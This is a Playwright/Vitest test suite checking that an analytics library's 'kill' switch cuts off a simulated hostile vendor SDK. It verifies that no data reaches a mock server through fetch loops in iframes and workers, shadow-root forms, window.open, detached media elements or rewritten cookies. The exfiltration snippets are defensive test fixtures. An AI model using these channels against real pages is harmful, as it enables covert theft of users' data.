import type { BrowserContext } from 'playwright-core'
import { describe, expect, test } from 'vitest'
import type { Lab, Tab } from './support/lab'
import { useLab } from './support/use-lab'

let lab: Lab
let profile: BrowserContext
useLab((...opened) => ([lab, profile] = opened))

const policy =
  "default-src 'self' 'unsafe-inline'; worker-src 'none'; object-src 'none'; form-action 'self'"

interface Infection {
  readonly csp?: string
  /** What `afterKill` is: `'reload'`, or a function that has it reloaded, or not. */
  readonly afterKill?: 'reload' | 'asks' | 'stays'
  /** What the app has done before. */
  readonly before?: () => void
}

/** A tab in which the hostile SDK runs inline, as a vendor. */
async function infected({ before, ...infection }: Infection = {}): Promise<Tab> {
  const tab = await lab.tab(profile)
  if (before) await tab.page.evaluate(before)
  await tab.page.evaluate(
    ({ host, csp, afterKill }) => {
      const receipts: unknown[] = []
      const answer = (receipt: unknown): boolean => {
        sessionStorage.setItem('app:receipts', String(receipts.push(receipt)))
        return afterKill === 'asks'
      }
      const { createAnalytics, hostileSdk } = window.cordon
      window.analytics = createAnalytics({
        vendors: {
          hostile: {
            name: 'hostile',
            inline: true,
            footprint: {
              hosts: [`${host}/`],
              cookies: ['hostile_*'],
              localStorage: ['hostile_*'],
              sessionStorage: ['hostile_*'],
            },
            load: () => {
              Object.assign(window, { sdk: hostileSdk(host) })
              return { deliver: () => {} }
            },
          },
        },
        ...(csp && { csp }),
        ...(afterKill && { afterKill: afterKill === 'reload' ? afterKill : answer }),
      })
      window.analytics.track('hello')
    },
    { host: lab.mixpanel.url, ...infection },
  )
  await tab.page.waitForFunction(() => window.analytics.status().hostile?.sdk === 'loaded')
  return tab
}

type Sdk = { attack(roads: 'patched' | 'walled'): string[]; rewriteStorage(): void }

function attack(tab: Tab, roads: 'patched' | 'walled') {
  return tab.page.evaluate(
    (which) => (window as unknown as { sdk: Sdk }).sdk.attack(which as 'patched'),
    roads,
  )
}
/** What the vendor's server has got when it has been quiet for half a second: nothing has no event. */
async function arrived(tab: Tab): Promise<string[]> {
  await tab.page.evaluate(() => fetch('/own', { method: 'POST', body: 'settled' }))
  const before = lab.mixpanel.requests.length
  await new Promise((resolve) => setTimeout(resolve, 500))
  expect(lab.mixpanel.requests.length).toBe(before)
  return lab.mixpanel.requests.map(({ path }) => path).filter((path) => path.includes('/stolen/'))
}

describe('a hostile SDK in the page', () => {
  test('finds every road open before the kill: the fixture can fail', async () => {
    const tab = await infected()
    const roads = await attack(tab, 'patched')
    const walled = await attack(tab, 'walled')
    await expect.poll(() => lab.mixpanel.requests.length, { timeout: 10_000 }).toBeGreaterThan(18)
    // Sockets and workers of another origin are refused by the browser itself.
    expect(roads.length + walled.length).toBe(25)
  })

  test('is not told which page loads its images, scripts, frames and styles, while it may run', async () => {
    const tab = await infected()
    await tab.page.evaluate(() => {
      document.head.innerHTML += '<meta name="referrer" content="unsafe-url">'
    })
    await attack(tab, 'patched')
    const elements = ['image', 'img', 'srcset', 'attribute', 'script', 'iframe', 'link']
    const loaded = () =>
      lab.mixpanel.requests.filter(({ path }) => elements.some((one) => path.endsWith(`/${one}`)))
    await expect.poll(() => loaded().length).toBe(elements.length)
    expect(loaded().filter(({ headers }) => 'referer' in headers)).toEqual([])
  })

  test('gets nothing out after the kill by the roads that the guard stands at', async () => {
    const tab = await infected()
    await tab.page.evaluate(() => window.analytics.kill('hostile'))
    const roads = await attack(tab, 'patched')
    expect(await arrived(tab)).toEqual([])
    const { hostile } = await tab.page.evaluate(() => window.analytics.status())
    expect(hostile?.blocked.may_not_run).toBeGreaterThanOrEqual(roads.length - 2)
  })

  test('gets nothing out at all after the kill where the app has given its own policy', async () => {
    const tab = await infected({ csp: policy })
    await tab.page.evaluate(() => window.analytics.kill('hostile'))
    await attack(tab, 'patched')
    await attack(tab, 'walled')
    expect(await arrived(tab)).toEqual([])
    const { hostile } = await tab.page.evaluate(() => window.analytics.status())
    expect(hostile?.blocked.csp).toBeGreaterThan(0)
  })

  test('has a frame ended that came with the second page of a frame of its own', async () => {
    const tab = await infected({ csp: policy })
    const { wall } = await tab.page.evaluate(async (host) => {
      const code = `setInterval(() => fetch('${host}/stolen/nested', { mode: 'no-cors' }), 20)`
      const outer = document.createElement('iframe')
      const loaded = () => new Promise((resolve) => (outer.onload = resolve))
      document.body.append(outer)
      for (const content of [
        '',
        `<iframe src="data:text/html,<script>${code}</script>"></iframe>`,
      ]) {
        outer.srcdoc = content
        await loaded()
      }
      return window.analytics.kill('hostile')
    }, lab.mixpanel.url)
    expect(wall).toMatchObject({ frames: 1 })
    const before = (await arrived(tab)).length
    expect(await arrived(tab)).toHaveLength(before)
  })

  test('has its workers and frames ended, where no policy reaches them; the receipt says so', async () => {
    const tab = await infected({ csp: policy })
    const { wall, failed } = await tab.page.evaluate(async (host) => {
      const code = `setInterval(() => fetch('${host}/stolen/worker', { mode: 'no-cors' }), 20)`
      new Worker(URL.createObjectURL(new Blob([code])))
      const frames = ['data:text/html,<script>' + code + '</script>', 'about:blank'].map((src) =>
        Object.assign(document.createElement('iframe'), { src }),
      )
      document.body.append(...frames)
      await new Promise((resolve) => frames[0]?.addEventListener('load', resolve))
      return window.analytics.kill('hostile')
    }, lab.mixpanel.url)
    expect(failed).toEqual([])
    expect(wall).toMatchObject({ frames: 1, workers: 1, popups: 0, sharedWorkers: 0 })
    const before = (await arrived(tab)).length
    expect(await arrived(tab)).toHaveLength(before)
  })

  test.each([
    ['append', () => (Element.prototype.append = () => {})],
    ['createElement', () => (document.createElement = () => document.body)],
    ['its head', () => document.head.remove()],
  ])('cannot keep the policy down by taking away %s', async (_what, take) => {
    const tab = await infected({ csp: policy })
    await tab.page.evaluate(take)
    const { wall, failed } = await tab.page.evaluate(() => window.analytics.kill('hostile'))
    expect({ failed, stands: wall !== undefined }).toEqual({ failed: [], stands: true })
    await attack(tab, 'walled')
    expect(await arrived(tab)).toEqual([])
  })

  test.each([
    ['at once', 'reload', 'reload'],
    ['when the app says so', 'asks', 'reload'],
    ['not where it does not', 'stays', 'navigate'],
  ] as const)(
    'is gone with the page, if that is wanted after the kill: %s',
    async (_when, afterKill, type) => {
      const tab = await infected({ afterKill })
      const typeOf = () =>
        tab.page.evaluate(
          () => (performance.getEntriesByType('navigation')[0] as PerformanceNavigationTiming).type,
        )
      const loaded = type === 'reload' ? tab.page.waitForEvent('load') : undefined
      await tab.page.evaluate(() => void window.analytics.kill('hostile'))
      await loaded
      expect(await typeOf()).toBe(type)
      const receipts = await tab.page.evaluate(() => sessionStorage.getItem('app:receipts'))
      expect(receipts).toBe(afterKill === 'reload' ? null : '1')
    },
  )

  test('cannot bring its storage back: it is erased again', async () => {
    const tab = await infected()
    await tab.page.evaluate(() => {
      window.analytics.kill('hostile')
      ;(window as unknown as { sdk: Sdk }).sdk.rewriteStorage()
    })
    expect(await tab.page.evaluate(() => document.cookie)).toMatch(/hostile_id.*hostile_part/)
    await tab.page.waitForFunction(
      () =>
        !document.cookie.includes('hostile') &&
        ![...Object.keys(localStorage), ...Object.keys(sessionStorage)].some((key) =>
          key.startsWith('hostile'),
        ),
    )
  })
})

describe('in shadow roots, which no selector enters, a hostile SDK', () => {
  /** Hosts that are put in after the kill, and what waits in a root that is in the page. */
  const useRoots = (tab: Tab, isKilled: boolean) =>
    tab.page.evaluate(
      ({ host, kill }) => {
        const rootIn = (element: Element, mode: ShadowRootMode): ShadowRoot => {
          const inner = document.createElement('b')
          element.attachShadow({ mode }).append(inner)
          return inner.appendChild(document.createElement('div')).attachShadow({ mode })
        }
        const hosts = [
          ['script', 'src', 'open'],
          ['iframe', 'src', 'closed'],
          ['link', 'href', 'open'],
        ].map(([tag = '', key = '', mode]) => {
          const element = document.createElement(tag)
          Object.assign(element, { rel: 'stylesheet', [key]: `${host}/stolen/${tag}` })
          const outer = document.createElement('section')
          rootIn(outer, mode as 'open').append(element)
          return outer
        })
        const there = document.createElement('div')
        const video = document.createElement('video')
        Object.assign(video, { preload: 'none', muted: true, src: `${host}/stolen/video` })
        document.body.append(there)
        rootIn(there, 'closed').append(video)
        if (kill) window.analytics.kill('hostile')
        document.body.append(...hosts)
        void video.play().catch(() => {})
      },
      { host: lab.mixpanel.url, kill: isKilled },
    )

  test('finds the roads open before the kill: the fixture can fail', async () => {
    await useRoots(await infected(), false)
    const roads = () => new Set(lab.mixpanel.requests.map(({ path }) => path)).size
    await expect.poll(roads).toBeGreaterThanOrEqual(4)
  })

  test('has nothing loaded after the kill, open or closed', async () => {
    const tab = await infected()
    await useRoots(tab, true)
    expect(await arrived(tab)).toEqual([])
  })

  test('has no form submitted after the kill, and no frame opened anew: neither is told outside of the root', async () => {
    const tab = await infected()
    await tab.page.evaluate((host) => {
      const sink = Object.assign(document.createElement('iframe'), { name: 'sink' })
      const dark = Object.assign(document.createElement('iframe'), { name: 'dark' })
      const form = document.createElement('form')
      Object.assign(form, { action: `${host}/stolen/form`, target: 'sink' })
      const element = document.createElement('div')
      document.body.append(sink, element)
      element.attachShadow({ mode: 'closed' }).append(form, dark)
      window.analytics.kill('hostile')
      form.requestSubmit()
      window.open(`${host}/stolen/open`, 'dark')
    }, lab.mixpanel.url)
    expect(await arrived(tab)).toEqual([])
  })

  test.each(['open', 'closed', 'declared'])(
    'has its frames ended, or bound by the policy, in a root that is %s',
    async (mode) => {
      const tab = await infected({ csp: policy })
      const { frames, isBound } = await tab.page.evaluate(
        async ({ host, how }) => {
          const code = `setInterval(() => fetch('${host}/stolen/frame', { mode: 'no-cors' }), 20)`
          const html = `<iframe src="data:text/html,<script>${code}</script>"></iframe><iframe></iframe>`
          const element = document.createElement('div')
          document.body.append(element)
          let root: ShadowRoot | null | undefined
          if (how === 'declared') {
            element.setHTMLUnsafe(`<p><template shadowrootmode=open>${html}</template></p>`)
            root = element.firstElementChild?.shadowRoot
          } else {
            root = element.attachShadow({ mode: how as 'open' })
            root.innerHTML = html
          }
          const [foreign, own] = root?.querySelectorAll('iframe') ?? []
          await new Promise((resolve) => foreign?.addEventListener('load', resolve))
          const { wall } = window.analytics.kill('hostile')
          return {
            frames: wall?.frames,
            isBound: !!own?.contentDocument?.querySelector('meta[http-equiv]'),
          }
        },
        { host: lab.mixpanel.url, how: mode },
      )
      expect({ frames, isBound }).toEqual({ frames: 1, isBound: true })
      const before = (await arrived(tab)).length
      expect(await arrived(tab)).toHaveLength(before)
    },
  )

  test('is not taken for the owner of a frame that was there before it, in a root', async () => {
    const before = (): void => {
      const element = document.createElement('div')
      document.body.append(element)
      element.attachShadow({ mode: 'open' }).innerHTML =
        '<iframe src="data:text/html,chat"></iframe>'
    }
    const tab = await infected({ csp: policy, before })
    const { wall } = await tab.page.evaluate(() => window.analytics.kill('hostile'))
    expect(wall).toMatchObject({ frames: 0 })
  })
})

describe('with elements that are not in the page, a hostile SDK', () => {
  /** Those that it had before, and those that it makes of HTML, where nothing loads. */
  const useElements = (tab: Tab, isKilled: boolean) =>
    tab.page.evaluate(
      async ({ host, kill }) => {
        const to = (road: string): string => `${host}/stolen/${road}`
        const made = <Tag extends keyof HTMLElementTagNameMap>(
          tag: Tag,
          properties: object,
        ): HTMLElementTagNameMap[Tag] =>
          Object.assign(document.createElement(tag), { preload: 'none', ...properties })
        const parsed = (html: string): Document =>
          new DOMParser().parseFromString(html, 'text/html')
        const lazy = made('img', { loading: 'lazy', src: to('lazy') })
        const loaded = made('img', { src: to('before') })
        await new Promise((resolve) => (loaded.onload = loaded.onerror = resolve))
        const audio = new Audio(to('audio'))
        audio.preload = 'none'
        const video = made('video', { src: to('video') })
        const source = made('source', { src: to('source') })
        const picture = made('picture', {})
        const shown = made('source', { srcset: 'data:,' })
        picture.append(shown, made('img', { src: to('picture') }))
        const range = document.createRange()
        range.selectNodeContents(made('div', {}))
        const template = made('template', { innerHTML: `<img src="${to('template')}">` })
        const written = made('div', {
          innerHTML: `<video preload="none" src="${to('written')}"></video>`,
        }).querySelector('video')
        if (kill) window.analytics.kill('hostile')
        lazy.loading = 'eager'
        loaded.crossOrigin = 'anonymous'
        void audio.play().catch(() => {})
        Object.assign(video, { preload: 'auto' }).load()
        made('video', { preload: 'auto' }).append(source)
        shown.remove()
        document.adoptNode(parsed(`<img src="${to('adopted')}">`).images[0] as Element)
        document.adoptNode(template.content)
        made('div', {}).append(...parsed(`<img src="${to('appended')}">`).images)
        range.insertNode(parsed(`<p><img src="${to('range')}">`).body.firstChild as Element)
        if (written) Object.assign(written, { preload: 'auto' }).load()
      },
      { host: lab.mixpanel.url, kill: isKilled },
    )

  const roads = [
    ...['adopted', 'appended', 'audio', 'before', 'before', 'lazy', 'picture', 'range'],
    ...['source', 'template', 'video', 'written'],
  ].map((road) => `/stolen/${road}`)

  test('finds the roads open before the kill: the fixture can fail', async () => {
    const tab = await infected()
    await useElements(tab, false)
    const found = () => lab.mixpanel.requests.map(({ path }) => path).sort()
    await expect.poll(found).toEqual(roads)
  })

  test('has nothing loaded by them after the kill', async () => {
    const tab = await infected()
    await useElements(tab, true)
    expect(await arrived(tab)).toEqual(['/stolen/before'])
  })
})
